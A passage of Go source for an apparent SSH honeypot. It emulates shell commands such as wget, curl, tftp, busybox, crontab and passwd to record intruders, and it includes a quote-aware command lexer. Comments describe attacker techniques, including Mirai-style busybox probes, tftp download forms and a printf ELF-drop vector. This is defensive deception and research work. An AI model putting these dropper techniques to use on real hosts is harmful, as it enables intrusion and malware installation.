	}
	if output == "" {
		output = uriBasename(uri)
	}
	_, _, err := sh.fetch(uri, output)
	if err != nil {
		return fmt.Sprintf("wget: unable to resolve host address\n"), 4
	}
	if quiet {
		return "", 0
	}
	return fmt.Sprintf("--2024-01-01 00:00:00--  %s\nHTTP request sent, awaiting response... 200 OK\nSaving to: '%s'\n\n%s saved\n", uri, output, output), 0
}

func uriBasename(uri string) string {
	s := uri
	if i := strings.Index(s, "://"); i >= 0 {
		s = s[i+3:]
	}
	if i := strings.IndexByte(s, '?'); i >= 0 {
		s = s[:i]
	}
	base := s[strings.LastIndexByte(s, '/')+1:]
	if base == "" || !strings.Contains(s, "/") {
		return "index.html"
	}
	return base
}

func cmdCurl(sh *Shell, args []string, _ string) (string, int) {
	var uri, output string
	remoteName, silent := false, false
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case a == "-o" || a == "--output":
			if i+1 < len(args) {
				output = args[i+1]
				i++
			}
		case a == "-O" || a == "--remote-name":
			remoteName = true
		case a == "-s" || a == "--silent":
			silent = true
		case a == "-X" || a == "--request" || a == "--max-redirs" || a == "--cookie" ||
			a == "--referer" || a == "-H" || a == "--header" || a == "-d" || a == "--data":
			i++ // takes a value
		case strings.HasPrefix(a, "-"):
		default:
			if uri == "" {
				uri = a
			}
		}
	}
	if uri == "" {
		return "curl: try 'curl --help' for more information\n", 2
	}
	if !strings.Contains(uri, "://") {
		uri = "http://" + uri
	}
	if remoteName && output == "" {
		output = uriBasename(uri)
	}
	content, _, err := sh.fetch(uri, output)
	if err != nil {
		if silent {
			return "", 6
		}
		return fmt.Sprintf("curl: (6) Could not resolve host\n"), 6
	}
	if output != "" {
		return "", 0
	}
	return string(content), 0
}

func cmdTftp(sh *Shell, args []string, _ string) (string, int) {
	// Forms seen in the wild:
	//   tftp -g -r FILE HOST      (busybox)
	//   tftp HOST -c get FILE
	var host, file string
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch a {
		case "-g", "-c", "get":
		case "-r", "-l":
			if i+1 < len(args) {
				file = args[i+1]
				i++
			}
		default:
			if strings.HasPrefix(a, "-") {
				continue
			}
			if host == "" {
				host = a
			} else if file == "" {
				file = a
			}
		}
	}
	if host == "" || file == "" {
		return "tftp: usage\n", 1
	}
	uri := "tftp://" + host + "/" + file
	if _, _, err := sh.fetch(uri, file); err != nil {
		return "tftp: timeout\n", 1
	}
	return "", 0
}

func cmdFtpget(sh *Shell, args []string, _ string) (string, int) {
	// busybox ftpget [-u user -p pass] HOST LOCAL REMOTE
	var rest []string
	for i := 0; i < len(args); i++ {
		if args[i] == "-u" || args[i] == "-p" || args[i] == "-P" {
			i++
			continue
		}
		if strings.HasPrefix(args[i], "-") {
			continue
		}
		rest = append(rest, args[i])
	}
	if len(rest) < 2 {
		return "ftpget: usage\n", 1
	}
	host, local := rest[0], rest[1]
	remote := local
	if len(rest) > 2 {
		remote = rest[2]
	}
	uri := "ftp://" + host + "/" + remote
	if _, _, err := sh.fetch(uri, local); err != nil {
		return "ftpget: can't connect to remote host\n", 1
	}
	return "", 0
}

func cmdUname(sh *Shell, args []string, _ string) (string, int) {
	const (
		s = "Linux"
		n = "svr04"
		r = "5.10.0-8-amd64"
		v = "#1 SMP Debian 5.10.46-4 (2021-08-03)"
		m = "x86_64"
		i = "unknown"
	)
	if len(args) == 0 {
		return s + "\n", 0
	}
	var fields []string
	for _, a := range args {
		switch a {
		case "-a", "--all":
			fields = []string{s, n, r, v, m, "GNU/Linux"}
		case "-s":
			fields = append(fields, s)
		case "-n":
			fields = append(fields, n)
		case "-r":
			fields = append(fields, r)
		case "-v":
			fields = append(fields, v)
		case "-m", "-p":
			fields = append(fields, m)
		case "-i":
			fields = append(fields, i)
		}
	}
	if len(fields) == 0 {
		return s + "\n", 0
	}
	return strings.Join(fields, " ") + "\n", 0
}

func cmdId(sh *Shell, _ []string, _ string) (string, int) {
	return "uid=0(root) gid=0(root) groups=0(root)\n", 0
}

func cmdWhoami(sh *Shell, _ []string, _ string) (string, int) {
	return sh.User + "\n", 0
}

func cmdHostname(sh *Shell, _ []string, _ string) (string, int) {
	return sh.Hostname + "\n", 0
}

func cmdNproc(*Shell, []string, string) (string, int) { return "2\n", 0 }

func cmdUptime(*Shell, []string, string) (string, int) {
	return " 11:52:43 up 12 days,  3:42,  1 user,  load average: 0.08, 0.02, 0.01\n", 0
}

func cmdW(sh *Shell, _ []string, _ string) (string, int) {
	return " 11:52:43 up 12 days,  3:42,  1 user,  load average: 0.08, 0.02, 0.01\n" +
		"USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n" +
		"root     pts/0    203.0.113.7      11:52    0.00s  0.00s  0.00s w\n", 0
}

func cmdFree(_ *Shell, args []string, _ string) (string, int) {
	div := 1
	for _, a := range args {
		if a == "-m" {
			div = 1024
		}
	}
	total, used, free := 2048000/div, 472000/div, 1576000/div
	return fmt.Sprintf("              total        used        free      shared  buff/cache   available\nMem:        %7d     %7d     %7d        2580      320000     %7d\nSwap:             0           0           0\n",
		total, used, free, 1720000/div), 0
}

func cmdPs(*Shell, []string, string) (string, int) {
	return "  PID TTY          TIME CMD\n    1 ?        00:00:02 systemd\n  612 ?        00:00:00 sshd\n 1028 pts/0    00:00:00 bash\n 1243 pts/0    00:00:00 ps\n", 0
}

func cmdTop(*Shell, []string, string) (string, int) {
	return "top - 11:52:43 up 12 days,  3:42,  1 user,  load average: 0.08, 0.02, 0.01\nTasks:  81 total,   1 running,  80 sleeping,   0 stopped,   0 zombie\n%Cpu(s):  0.3 us,  0.3 sy,  0.0 ni, 99.3 id,  0.0 wa,  0.0 hi,  0.0 si,  0.0 st\n", 0
}

func cmdCrontab(sh *Shell, args []string, stdin string) (string, int) {
	if len(args) == 0 {
		if stdin != "" {
			_ = sh.FS.WriteFile("/var/spool/cron/root", []byte(stdin))
			return "", 0
		}
		return "usage: crontab [-l|-r|file]\n", 1
	}
	switch args[0] {
	case "-l":
		content, err := sh.FS.ReadFile("/var/spool/cron/root")
		if err != nil {
			return "no crontab for root\n", 1
		}
		return string(content), 0
	case "-r":
		_ = sh.FS.Remove("/var/spool/cron/root", false)
		return "", 0
	default:
		content, err := sh.FS.ReadFile(args[0])
		if err != nil {
			return fmt.Sprintf("crontab: %s: No such file or directory\n", args[0]), 1
		}
		_ = sh.FS.WriteFile("/var/spool/cron/root", content)
		return "", 0
	}
}

func cmdPasswd(sh *Shell, _ []string, _ string) (string, int) {
	// Non-interactive honeypot: pretend success and mark shadow touched.
	_ = sh.FS.WriteFile("/etc/shadow", []byte("root:$6$changed$:19000:0:99999:7:::\n"))
	return "passwd: password updated successfully\n", 0
}

func cmdChpasswd(sh *Shell, _ []string, stdin string) (string, int) {
	if strings.TrimSpace(stdin) == "" {
		return "", 0
	}
	_ = sh.FS.WriteFile("/etc/shadow", []byte("root:$6$"+vfs.HashBytes([]byte(stdin))[:16]+"$:19000:0:99999:7:::\n"))
	return "", 0
}

func cmdExport(sh *Shell, args []string, _ string) (string, int) {
	for _, a := range args {
		if eq := strings.IndexByte(a, '='); eq > 0 {
			sh.Env[a[:eq]] = a[eq+1:]
		}
	}
	return "", 0
}

func cmdUnset(sh *Shell, args []string, _ string) (string, int) {
	for _, a := range args {
		delete(sh.Env, a)
	}
	return "", 0
}

func cmdWhich(sh *Shell, args []string, _ string) (string, int) {
	var b strings.Builder
	exit := 0
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		if _, ok := builtins[a]; ok {
			fmt.Fprintf(&b, "/usr/bin/%s\n", a)
		} else {
			exit = 1
		}
	}
	return b.String(), exit
}

func cmdGrep(sh *Shell, args []string, stdin string) (string, int) {
	invert, countOnly, ignoreCase := false, false, false
	var pattern string
	var files []string
	for _, a := range args {
		switch {
		case a == "-v":
			invert = true
		case a == "-c":
			countOnly = true
		case a == "-i":
			ignoreCase = true
		case strings.HasPrefix(a, "-"):
		case pattern == "":
			pattern = a
		default:
			files = append(files, a)
		}
	}
	input := stdin
	if len(files) > 0 {
		var b strings.Builder
		for _, f := range files {
			content, err := sh.FS.ReadFile(f)
			if err == nil {
				b.Write(content)
			}
		}
		input = b.String()
	}
	var out []string
	match := pattern
	if ignoreCase {
		match = strings.ToLower(pattern)
	}
	for _, line := range strings.Split(strings.TrimRight(input, "\n"), "\n") {
		hay := line
		if ignoreCase {
			hay = strings.ToLower(line)
		}
		if strings.Contains(hay, match) != invert && line != "" {
			out = append(out, line)
		}
	}
	if countOnly {
		return fmt.Sprintf("%d\n", len(out)), boolExit(len(out) > 0)
	}
	if len(out) == 0 {
		return "", 1
	}
	return strings.Join(out, "\n") + "\n", 0
}

func boolExit(ok bool) int {
	if ok {
		return 0
	}
	return 1
}

func cmdWc(_ *Shell, args []string, stdin string) (string, int) {
	lines := strings.Count(stdin, "\n")
	for _, a := range args {
		if a == "-l" {
			return fmt.Sprintf("%d\n", lines), 0
		}
	}
	words := len(strings.Fields(stdin))
	return fmt.Sprintf("%7d %7d %7d\n", lines, words, len(stdin)), 0
}

func cmdHead(sh *Shell, args []string, stdin string) (string, int) {
	return headTail(sh, args, stdin, true)
}

func cmdTail(sh *Shell, args []string, stdin string) (string, int) {
	return headTail(sh, args, stdin, false)
}

func headTail(sh *Shell, args []string, stdin string, head bool) (string, int) {
	n := 10
	var files []string
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case a == "-n" && i+1 < len(args):
			if v, err := strconv.Atoi(args[i+1]); err == nil {
				n = v
			}
			i++
		case strings.HasPrefix(a, "-n"):
			if v, err := strconv.Atoi(a[2:]); err == nil {
				n = v
			}
		case strings.HasPrefix(a, "-"):
			if v, err := strconv.Atoi(a[1:]); err == nil {
				n = v
			}
		default:
			files = append(files, a)
		}
	}
	if n < 0 {
		// GNU head/tail interpret negative counts specially; the
		// emulation clamps them — attackers probe exactly this.
		n = 0
	}
	input := stdin
	if len(files) > 0 {
		content, err := sh.FS.ReadFile(files[0])
		if err != nil {
			return fmt.Sprintf("head: cannot open '%s' for reading: No such file or directory\n", files[0]), 1
		}
		input = string(content)
	}
	lines := strings.Split(strings.TrimRight(input, "\n"), "\n")
	if len(lines) > n {
		if head {
			lines = lines[:n]
		} else {
			lines = lines[len(lines)-n:]
		}
	}
	if len(lines) == 1 && lines[0] == "" {
		return "", 0
	}
	return strings.Join(lines, "\n") + "\n", 0
}

func cmdSort(_ *Shell, _ []string, stdin string) (string, int) {
	lines := strings.Split(strings.TrimRight(stdin, "\n"), "\n")
	// Simple lexicographic sort without importing sort in a hot path.
	for i := 1; i < len(lines); i++ {
		for j := i; j > 0 && lines[j] < lines[j-1]; j-- {
			lines[j], lines[j-1] = lines[j-1], lines[j]
		}
	}
	if len(lines) == 1 && lines[0] == "" {
		return "", 0
	}
	return strings.Join(lines, "\n") + "\n", 0
}

func cmdHistory(sh *Shell, args []string, _ string) (string, int) {
	if len(args) > 0 && args[0] == "-c" {
		return "", 0
	}
	var b strings.Builder
	for i, c := range sh.commands {
		fmt.Fprintf(&b, "%5d  %s\n", i+1, c.Raw)
	}
	return b.String(), 0
}

func cmdLscpu(*Shell, []string, string) (string, int) {
	return "Architecture:        x86_64\nCPU op-mode(s):      32-bit, 64-bit\nByte Order:          Little Endian\nCPU(s):              2\nVendor ID:           GenuineIntel\nModel name:          Intel(R) Xeon(R) CPU E5-2686 v4 @ 2.30GHz\n", 0
}

func cmdDf(*Shell, []string, string) (string, int) {
	return "Filesystem     1K-blocks    Used Available Use% Mounted on\n/dev/sda1       20509264 3524204  15920196  19% /\ntmpfs            1024000       0   1024000   0% /dev/shm\n", 0
}

func cmdMount(*Shell, []string, string) (string, int) {
	return "/dev/sda1 on / type ext4 (rw,relatime,errors=remount-ro)\nproc on /proc type proc (rw,nosuid,nodev,noexec,relatime)\n", 0
}

func cmdIfconfig(*Shell, []string, string) (string, int) {
	return "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n        inet 192.168.1.105  netmask 255.255.255.0  broadcast 192.168.1.255\n        ether 52:54:00:2f:35:a1  txqueuelen 1000  (Ethernet)\n", 0
}

func cmdIp(_ *Shell, args []string, _ string) (string, int) {
	if len(args) > 0 && (args[0] == "a" || args[0] == "addr") {
		return "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536\n    inet 127.0.0.1/8 scope host lo\n2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500\n    inet 192.168.1.105/24 brd 192.168.1.255 scope global eth0\n", 0
	}
	return "", 0
}

func cmdNetstat(*Shell, []string, string) (string, int) {
	return "Active Internet connections (servers and established)\nProto Recv-Q Send-Q Local Address           Foreign Address         State\ntcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN\n", 0
}

func cmdSh(sh *Shell, args []string, stdin string) (string, int) {
	for i := 0; i < len(args); i++ {
		a := args[i]
		if a == "-c" && i+1 < len(args) {
			out, exit := sh.eval(args[i+1], stdin)
			return out, exit
		}
		if strings.HasPrefix(a, "-") {
			continue
		}
		// "sh file": execute the file — a file-exec attempt.
		return sh.attemptExec(a)
	}
	return "", 0
}

// busyboxApplets are the applets our busybox emulation dispatches; the
// Mirai-style probe `/bin/busybox RANDOM` hits the fallback reply.
var busyboxApplets = map[string]bool{
	"cat": true, "echo": true, "wget": true, "tftp": true, "ftpget": true,
	"chmod": true, "rm": true, "cp": true, "mv": true, "mkdir": true,
	"ls": true, "ps": true, "kill": true, "dd": true, "sh": true,
}

func cmdBusybox(sh *Shell, args []string, stdin string) (string, int) {
	if len(args) == 0 {
		return "BusyBox v1.30.1 (Debian 1:1.30.1-6+b3) multi-call binary.\nBusyBox is copyrighted by many authors between 1998-2015.\nUsage: busybox [function [arguments]...]\n", 0
	}
	applet := args[0]
	if fn, ok := builtins[applet]; ok && busyboxApplets[applet] {
		return fn(sh, args[1:], stdin)
	}
	return fmt.Sprintf("%s: applet not found\n", applet), 127
}

func cmdDd(sh *Shell, args []string, _ string) (string, int) {
	var input string
	count := -1
	bs := 512
	for _, a := range args {
		switch {
		case strings.HasPrefix(a, "if="):
			input = a[3:]
		case strings.HasPrefix(a, "bs="):
			if v, err := strconv.Atoi(a[3:]); err == nil {
				bs = v
			}
		case strings.HasPrefix(a, "count="):
			if v, err := strconv.Atoi(a[6:]); err == nil {
				count = v
			}
		}
	}
	if input == "" {
		return "", 0
	}
	content, err := sh.FS.ReadFile(input)
	if err != nil {
		return fmt.Sprintf("dd: failed to open '%s': No such file or directory\n", input), 1
	}
	if count > 0 && bs*count < len(content) {
		content = content[:bs*count]
	}
	return string(content) + fmt.Sprintf("\n%d+0 records in\n%d+0 records out\n", count, count), 0
}

func cmdApt(_ *Shell, args []string, _ string) (string, int) {
	if len(args) > 0 && args[0] == "install" {
		return "Reading package lists... Done\nBuilding dependency tree... Done\nE: Unable to locate package " + strings.Join(args[1:], " ") + "\n", 100
	}
	return "Reading package lists... Done\n", 0
}

func cmdBase64(_ *Shell, args []string, stdin string) (string, int) {
	decode := false
	for _, a := range args {
		if a == "-d" || a == "--decode" {
			decode = true
		}
	}
	data := strings.TrimSpace(stdin)
	if decode {
		out, err := base64.StdEncoding.DecodeString(data)
		if err != nil {
			return "base64: invalid input\n", 1
		}
		return string(out), 0
	}
	return base64.StdEncoding.EncodeToString([]byte(stdin)) + "\n", 0
}

func cmdHashFile(sh *Shell, args []string, stdin string) (string, int) {
	var b strings.Builder
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		if h, ok := sh.FS.HashOf(a); ok {
			fmt.Fprintf(&b, "%s  %s\n", h, a)
		} else {
			fmt.Fprintf(&b, "sha256sum: %s: No such file or directory\n", a)
		}
	}
	if b.Len() == 0 && stdin != "" {
		fmt.Fprintf(&b, "%s  -\n", vfs.HashBytes([]byte(stdin)))
	}
	return b.String(), 0
}

func cmdExit(sh *Shell, _ []string, _ string) (string, int) {
	sh.exited = true
	return "", 0
}

func cmdLast(*Shell, []string, string) (string, int) {
	return "root     pts/0        203.0.113.7      Mon Jan  1 11:50   still logged in\nreboot   system boot  5.10.0-8-amd64   Mon Dec 18 08:10   still running\n", 0
}

func cmdLspci(*Shell, []string, string) (string, int) {
	return "00:00.0 Host bridge: Intel Corporation 440FX - 82441FX PMC [Natoma]\n00:03.0 Ethernet controller: Red Hat, Inc. Virtio network device\n", 0
}

func cmdOpenssl(_ *Shell, args []string, stdin string) (string, int) {
	if len(args) > 0 && args[0] == "passwd" {
		// openssl passwd -1 SALTPASS style: return a fake MD5-crypt hash.
		seed := strings.Join(args[1:], "")
		if stdin != "" {
			seed += stdin
		}
		return "$1$" + vfs.HashBytes([]byte(seed))[:8] + "$" + vfs.HashBytes([]byte(seed))[8:30] + "\n", 0
	}
	return "OpenSSL 1.1.1n  15 Mar 2022\n", 0
}

// cmdAwk implements the '{print $N,...}' subset bots use for recon.
func cmdAwk(_ *Shell, args []string, stdin string) (string, int) {
	var prog string
	for _, a := range args {
		if strings.Contains(a, "print") {
			prog = a
		}
	}
	if prog == "" {
		return "", 0
	}
	start := strings.Index(prog, "print")
	spec := strings.Trim(prog[start+5:], " {};'")
	var cols []int
	for _, f := range strings.FieldsFunc(spec, func(r rune) bool { return r == ',' || r == ' ' }) {
		if strings.HasPrefix(f, "$") {
			if v, err := strconv.Atoi(f[1:]); err == nil {
				cols = append(cols, v)
			}
		}
	}
	var out strings.Builder
	for _, line := range strings.Split(strings.TrimRight(stdin, "\n"), "\n") {
		fields := strings.Fields(line)
		var parts []string
		for _, c := range cols {
			if c == 0 {
				parts = append(parts, line)
			} else if c-1 < len(fields) {
				parts = append(parts, fields[c-1])
			}
		}
		out.WriteString(strings.Join(parts, " "))
		out.WriteByte('\n')
	}
	return out.String(), 0
}

func cmdTr(_ *Shell, args []string, stdin string) (string, int) {
	if len(args) >= 2 && len(args[0]) == len(args[1]) {
		out := stdin
		for i := 0; i < len(args[0]); i++ {
			out = strings.ReplaceAll(out, string(args[0][i]), string(args[1][i]))
		}
		return out, 0
	}
	return stdin, 0
}

func cmdCut(_ *Shell, args []string, stdin string) (string, int) {
	delim := "\t"
	var field int
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case strings.HasPrefix(a, "-d"):
			if len(a) > 2 {
				delim = a[2:]
			} else if i+1 < len(args) {
				delim = args[i+1]
				i++
			}
		case strings.HasPrefix(a, "-f"):
			s := a[2:]
			if s == "" && i+1 < len(args) {
				s = args[i+1]
				i++
			}
			if v, err := strconv.Atoi(s); err == nil {
				field = v
			}
		}
	}
	if field == 0 {
		return stdin, 0
	}
	var out strings.Builder
	for _, line := range strings.Split(strings.TrimRight(stdin, "\n"), "\n") {
		parts := strings.Split(line, delim)
		if field-1 < len(parts) {
			out.WriteString(parts[field-1])
		}
		out.WriteByte('\n')
	}
	return out.String(), 0
}

func cmdXargs(sh *Shell, args []string, stdin string) (string, int) {
	if len(args) == 0 {
		return "", 0
	}
	full := strings.Join(args, " ") + " " + strings.Join(strings.Fields(stdin), " ")
	out, exit := sh.eval(full, "")
	return out, exit
}

// cmdPrintf implements the printf subset droppers use: %s/%d pass-through
// and the same escape sequences as echo -e. `printf '\x7f\x45\x4c\x46'`
// is a common ELF-drop vector.
func cmdPrintf(_ *Shell, args []string, _ string) (string, int) {
	if len(args) == 0 {
		return "", 1
	}
	format := decodeEchoEscapes(args[0])
	rest := args[1:]
	var b strings.Builder
	ri := 0
	for i := 0; i < len(format); i++ {
		c := format[i]
		if c != '%' || i+1 >= len(format) {
			b.WriteByte(c)
			continue
		}
		i++
		switch format[i] {
		case 's', 'd', 'x', 'b':
			if ri < len(rest) {
				b.WriteString(rest[ri])
				ri++
			}
		case '%':
			b.WriteByte('%')
		default:
			b.WriteByte('%')
			b.WriteByte(format[i])
		}
	}
	return b.String(), 0
}

// cmdEnv prints the environment, one VAR=value per line, sorted.
func cmdEnv(sh *Shell, _ []string, _ string) (string, int) {
	keys := make([]string, 0, len(sh.Env))
	for k := range sh.Env {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var b strings.Builder
	for _, k := range keys {
		fmt.Fprintf(&b, "%s=%s\n", k, sh.Env[k])
	}
	return b.String(), 0
}

// cmdLn emulates hard/symbolic links as content copies — enough for the
// persistence tricks bots attempt.
func cmdLn(sh *Shell, args []string, _ string) (string, int) {
	var paths []string
	for _, a := range args {
		if !strings.HasPrefix(a, "-") {
			paths = append(paths, a)
		}
	}
	if len(paths) < 2 {
		return "ln: missing file operand\n", 1
	}
	content, err := sh.FS.ReadFile(paths[0])
	if err != nil {
		return fmt.Sprintf("ln: failed to access '%s': No such file or directory\n", paths[0]), 1
	}
	_ = sh.FS.WriteFile(paths[1], content)
	return "", 0
}

// cmdStat prints minimal stat(1) output.
func cmdStat(sh *Shell, args []string, _ string) (string, int) {
	var b strings.Builder
	exit := 0
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		n, err := sh.FS.Stat(a)
		if err != nil {
			fmt.Fprintf(&b, "stat: cannot stat '%s': No such file or directory\n", a)
			exit = 1
			continue
		}
		kind := "regular file"
		if n.Dir {
			kind = "directory"
		}
		fmt.Fprintf(&b, "  File: %s\n  Size: %d\t%s\nModify: %s\n",
			a, n.Size, kind, n.ModTime.Format("2006-01-02 15:04:05"))
	}
	return b.String(), exit
}

// cmdFile reports a coarse file type: ELF binaries, scripts, text.
func cmdFile(sh *Shell, args []string, _ string) (string, int) {
	var b strings.Builder
	exit := 0
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		n, err := sh.FS.Stat(a)
		if err != nil {
			fmt.Fprintf(&b, "%s: cannot open: No such file or directory\n", a)
			exit = 1
			continue
		}
		switch {
		case n.Dir:
			fmt.Fprintf(&b, "%s: directory\n", a)
		case strings.HasPrefix(string(n.Content), "\x7fELF"):
			fmt.Fprintf(&b, "%s: ELF 64-bit LSB executable, x86-64\n", a)
		case strings.HasPrefix(string(n.Content), "#!"):
			fmt.Fprintf(&b, "%s: POSIX shell script, ASCII text executable\n", a)
		default:
			fmt.Fprintf(&b, "%s: ASCII text\n", a)
		}
	}
	return b.String(), exit
}

// cmdFind lists paths beneath a directory, with the -name glob bots use
// to locate planted files.
func cmdFind(sh *Shell, args []string, _ string) (string, int) {
	root := sh.FS.Cwd()
	pattern := ""
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case a == "-name" && i+1 < len(args):
			pattern = args[i+1]
			i++
		case a == "-type" && i+1 < len(args):
			i++
		case strings.HasPrefix(a, "-"):
		default:
			root = a
		}
	}
	var out []string
	var walk func(p string)
	walk = func(p string) {
		if len(out) > 4096 {
			return
		}
		nodes, err := sh.FS.List(p)
		if err != nil {
			return
		}
		for _, n := range nodes {
			child := p + "/" + n.Name
			if p == "/" {
				child = "/" + n.Name
			}
			if pattern == "" || matchStar(pattern, n.Name) {
				out = append(out, child)
			}
			if n.Dir {
				walk(child)
			}
		}
	}
	if n, err := sh.FS.Stat(root); err != nil {
		return fmt.Sprintf("find: '%s': No such file or directory\n", root), 1
	} else if !n.Dir {
		return sh.FS.Abs(root) + "\n", 0
	}
	abs := sh.FS.Abs(root)
	if pattern == "" {
		out = append(out, abs)
	}
	walk(abs)
	if len(out) == 0 {
		return "", 0
	}
	return strings.Join(out, "\n") + "\n", 0
}

// cmdNohup runs the rest of the line, discarding the "ignoring input"
// notice real nohup prints.
func cmdNohup(sh *Shell, args []string, stdin string) (string, int) {
	if len(args) == 0 {
		return "nohup: missing operand\n", 125
	}
	out, exit := sh.eval(strings.Join(args, " "), stdin)
	return out, exit
}

func cmdDmesg(*Shell, []string, string) (string, int) {
	return "[    0.000000] Linux version 5.10.0-8-amd64 (debian-kernel@lists.debian.org)\n[    0.004000] Command line: BOOT_IMAGE=/boot/vmlinuz-5.10.0-8-amd64 root=/dev/sda1 ro quiet\n", 0
}

func cmdRoute(*Shell, []string, string) (string, int) {
	return "Kernel IP routing table\nDestination     Gateway         Genmask         Flags Metric Ref    Use Iface\ndefault         192.168.1.1     0.0.0.0         UG    0      0        0 eth0\n192.168.1.0     0.0.0.0         255.255.255.0   U     0      0        0 eth0\n", 0
}

func cmdArp(*Shell, []string, string) (string, int) {
	return "Address                  HWtype  HWaddress           Flags Mask            Iface\n192.168.1.1              ether   00:1a:2b:3c:4d:5e   C                     eth0\n", 0
}

func cmdDate(*Shell, []string, string) (string, int) {
	// A fixed plausible timestamp: the honeypot must not leak wall time
	// drift between sessions.
	return "Mon Jan  1 11:52:43 UTC 2024\n", 0
}

func init() {
	builtins["printf"] = cmdPrintf
	builtins["env"] = cmdEnv
	builtins["ln"] = cmdLn
	builtins["stat"] = cmdStat
	builtins["file"] = cmdFile
	builtins["find"] = cmdFind
	builtins["nohup"] = cmdNohup
	builtins["setsid"] = cmdNohup
	builtins["dmesg"] = cmdDmesg
	builtins["route"] = cmdRoute
	builtins["arp"] = cmdArp
	builtins["date"] = cmdDate
}
