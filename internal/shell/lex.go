package shell

import "strings"

// opKind labels the separators between simple commands.
type opKind int

const (
	opSeq  opKind = iota // ';' or newline or '&'
	opAnd                // '&&'
	opOr                 // '||'
	opPipe               // '|'
)

// segment is one simple command plus the operator connecting it to the
// NEXT segment.
type segment struct {
	text string
	next opKind
}

// splitSegments cuts a command line into simple-command segments at
// unquoted ';', '&&', '||', '|', '&', and newlines.
func splitSegments(line string) []segment {
	var segs []segment
	var cur strings.Builder
	inSingle, inDouble, escaped := false, false, false

	flush := func(op opKind) {
		text := strings.TrimSpace(cur.String())
		cur.Reset()
		if text != "" {
			segs = append(segs, segment{text: text, next: op})
		} else if len(segs) > 0 {
			// Empty segment: fold the operator into the previous one so
			// "a ; ; b" behaves like "a ; b".
			segs[len(segs)-1].next = op
		}
	}

	for i := 0; i < len(line); i++ {
		c := line[i]
		if escaped {
			cur.WriteByte(c)
			escaped = false
			continue
		}
		switch {
		case c == '\\' && !inSingle:
			cur.WriteByte(c)
			escaped = true
		case c == '\'' && !inDouble:
			inSingle = !inSingle
			cur.WriteByte(c)
		case c == '"' && !inSingle:
			inDouble = !inDouble
			cur.WriteByte(c)
		case inSingle || inDouble:
			cur.WriteByte(c)
		case c == '\n':
			flush(opSeq)
		case c == ';':
			flush(opSeq)
		case c == '&':
			if i+1 < len(line) && line[i+1] == '&' {
				flush(opAnd)
				i++
			} else if i > 0 && line[i-1] == '>' {
				cur.WriteByte(c) // fd duplication: 2>&1
			} else {
				flush(opSeq) // background '&': treated as sequence
			}
		case c == '|':
			if i+1 < len(line) && line[i+1] == '|' {
				flush(opOr)
				i++
			} else {
				flush(opPipe)
			}
		default:
			cur.WriteByte(c)
		}
	}
	flush(opSeq)
	return segs
}

// redirect describes an output redirection parsed from a simple command.
type redirect struct {
	target string
	append bool
}

// parsedCmd is a simple command after word splitting.
type parsedCmd struct {
	words []string
	redir *redirect
}

// splitWords tokenizes a simple command into words, honoring single and
// double quotes and backslash escapes (quotes removed), and extracts
// output redirections (>, >>, 2>, &>, 2>&1), including glued forms like
// `echo "key">>file`.
//
// Backslash semantics follow bash: outside quotes it escapes the next
// byte; inside double quotes it escapes only $ ` " \\ (so `echo -e
// "\x6F"` keeps its backslash for echo to interpret); inside single
// quotes it is literal.
func splitWords(text string) parsedCmd {
	var words []string
	var cur strings.Builder
	inSingle, inDouble, started := false, false, false

	push := func() {
		if started {
			words = append(words, cur.String())
			cur.Reset()
			started = false
		}
	}
	for i := 0; i < len(text); i++ {
		c := text[i]
		switch {
		case c == '\\' && !inSingle && !inDouble:
			if i+1 < len(text) {
				cur.WriteByte(text[i+1])
				i++
			}
			started = true
		case c == '\\' && inDouble:
			if i+1 < len(text) && strings.IndexByte("$`\"\\", text[i+1]) >= 0 {
				cur.WriteByte(text[i+1])
				i++
			} else {
				cur.WriteByte(c)
			}
			started = true
		case c == '\'' && !inDouble:
			inSingle = !inSingle
			started = true
		case c == '"' && !inSingle:
			inDouble = !inDouble
			started = true
		case (c == ' ' || c == '\t') && !inSingle && !inDouble:
			push()
		case (c == '>' || c == '<') && !inSingle && !inDouble:
			// Fold a file-descriptor digit into the operator token
			// ("2>"), otherwise split the word here.
			var op strings.Builder
			if started && (cur.String() == "2" || cur.String() == "1") {
				op.WriteString(cur.String())
				cur.Reset()
				started = false
			}
			push()
			op.WriteByte(c)
			if c == '>' && i+1 < len(text) && text[i+1] == '>' {
				op.WriteByte('>')
				i++
			}
			if i+2 < len(text) && text[i+1] == '&' && text[i+2] == '1' {
				op.WriteString("&1")
				i += 2
			}
			words = append(words, op.String())
		default:
			cur.WriteByte(c)
			started = true
		}
	}
	push()

	out := parsedCmd{}
	i := 0
	for i < len(words) {
		w := words[i]
		switch w {
		case ">", ">>", "2>", "1>", "&>":
			if i+1 < len(words) {
				out.redir = &redirect{target: words[i+1], append: w == ">>"}
				i += 2
				continue
			}
			// A bare trailing ">" truncates: emulate by redirecting to
			// nothing (ignored).
			i++
		case ">&1", "2>&1", "<":
			// fd duplication and input redirection: drop the operator
			// (and the input file name, if any).
			if w == "<" && i+1 < len(words) {
				i++
			}
			i++
		default:
			out.words = append(out.words, w)
			i++
		}
	}
	return out
}

// decodeEchoEscapes interprets the escape sequences `echo -e` understands:
// \xHH, \0NNN (octal), \n, \t, \r, \\, \a, \b, \e, \f, \v.
func decodeEchoEscapes(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] != '\\' || i+1 >= len(s) {
			b.WriteByte(s[i])
			continue
		}
		i++
		switch s[i] {
		case 'n':
			b.WriteByte('\n')
		case 't':
			b.WriteByte('\t')
		case 'r':
			b.WriteByte('\r')
		case '\\':
			b.WriteByte('\\')
		case 'a':
			b.WriteByte(7)
		case 'b':
			b.WriteByte(8)
		case 'e':
			b.WriteByte(27)
		case 'f':
